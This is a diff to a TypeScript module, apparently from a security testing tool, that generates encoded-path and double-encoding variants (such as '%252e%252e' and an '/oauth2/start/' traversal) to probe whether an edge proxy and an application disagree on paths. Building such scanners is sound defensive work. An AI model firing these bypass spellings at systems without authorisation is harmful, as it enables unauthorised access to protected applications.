@@ -1,4 +1,4 @@
-import { asking, everybody, Knock, knocks, opensNothing, product, tryAll } from './tries';
+import { asking, everybody, Knock, knocks, opensNothing, product, productOf, tryAll } from './tries';
 import { pathsIn, writing } from './wire';
 import { Attack, Family } from '../attack';
 import { openFor, shutFor } from '../doors';
@@ -13,7 +13,7 @@ interface Parts {
 }
 type Spelling = (parts: Parts) => string;
 
-const hex = (text: string) => `%${text.charCodeAt(0).toString(16).padStart(2, '0')}`;
+const hex = (text = '') => text && `%${text.charCodeAt(0).toString(16).padStart(2, '0')}`;
 
 const SPELLINGS: Readonly<Record<string, Pick<Attack, 'title' | 'reason' | 'reference'> & { readonly spellings: readonly Spelling[] }>> = {
   'encoded-slashes': {
@@ -30,7 +30,7 @@ const SPELLINGS: Readonly<Record<string, Pick<Attack, 'title' | 'reason' | 'refe
     reason: 'an edge that compares undecoded paths does not see the prefix that the application sees',
     reference: 'finding 4; RFC 3986, 6.2.2.2',
     spellings: [
-      ({ base, rest }) => `${base}/${hex(rest[1]!)}${rest.slice(2)}`, ({ base, rest }) => `${base}${rest.slice(0, -1)}${hex(rest.slice(-1))}`,
+      ({ base, rest }) => `${base}/${hex(rest[1])}${rest.slice(2)}`, ({ base, rest }) => `${base}${rest.slice(0, -1)}${hex(rest.slice(-1))}`,
       ({ base, rest }) => base + rest.replace(/[^/]/g, hex), ({ path }) => path.replace(/[^/]/g, hex), ({ path }) => path.replace(/[a-z]/g, (letter) => hex(letter).toUpperCase()),
     ],
   },
@@ -57,7 +57,7 @@ const SPELLINGS: Readonly<Record<string, Pick<Attack, 'title' | 'reason' | 'refe
     reason: 'edge and application decode once each, if both decode',
     reference: 'CWE-174',
     spellings: [
-      ({ base, rest }) => `${base}/${rest.slice(1).replace(/\//g, '%252F')}`, ({ base, rest }) => `${base}/x/%252e%252e${rest}`, ({ base, rest }) => `${base}/%25${hex(rest[1]!).slice(1)}${rest.slice(2)}`,
+      ({ base, rest }) => `${base}/${rest.slice(1).replace(/\//g, '%252F')}`, ({ base, rest }) => `${base}/x/%252e%252e${rest}`, ({ base, rest }) => `${base}/%25${hex(rest[1]).slice(1)}${rest.slice(2)}`,
       ({ base, rest }) => `${base}/x%252f..%252f${rest.slice(1)}`, ({ path }) => `/oauth2/start/%252e%252e/%252e%252e${path}`,
     ],
   },
@@ -160,20 +160,24 @@ function places(target: Target): Knock[] {
     const inside = openFor(target, credential).map(({ application }) => application);
     return shutFor(target, credential).filter(({ tells, application }) => tells && (!credential.signedIn || inside.includes(application))).map((door) => ({ credential, door }));
   });
-  return [...telling, ...knocks(target).filter(({ door }) => !door.tells)].filter(({ door }) => door.path.length > door.base.length + 1);
+  return [...telling, ...knocks(target).filter(({ door }) => !door.tells)];
 }
 
-const partsOf = ({ door: { base, path, host } }: Knock): Parts => ({ base, rest: path.slice(base.length), path, host });
+/** Where the door is where its application is, all of its path is what follows. */
+function partsOf({ door: { base, path, host } }: Knock): Parts {
+  const at = path.length > base.length + 1 ? base.length : 0;
+  return { base: path.slice(0, at), rest: path.slice(at), path, host };
+}
+
+/** How a door's path can be spelled otherwise: some spellings change nothing of a short one, or make no path of it. */
+const spelled = (knock: Knock, spellings: readonly Spelling[]) => spellings.map((spelling) => spelling(partsOf(knock))).filter((path) => path.startsWith('/') && path !== knock.door.path);
 
 export const PATHS: readonly Attack[] = [
   ...Object.entries(SPELLINGS).map(([id, { spellings, ...rest }]): Attack => ({
     id: `paths-${id}`,
     family: Family.PATHS,
     ...rest,
-    run: (target) => tryAll(target, product(places(target), spellings).map(({ variation, ...knock }) => {
-      const path = variation(partsOf(knock));
-      return asking(target, knock, path, {}, `https://${knock.door.host}${path}`);
-    }), opensNothing(({ how }) => [how.replace(/\?.*/s, '')])),
+    run: (target) => tryAll(target, productOf(places(target), (knock) => spelled(knock, spellings)).map(({ variation: path, ...knock }) => asking(target, knock, path, {}, `https://${knock.door.host}${path}`)), opensNothing(({ how }) => [how.replace(/\?.*/s, '')])),
   })),
   ...Object.entries(TARGETS).map(([id, { targets, ...rest }]): Attack => ({
     id: `paths-${id}`,
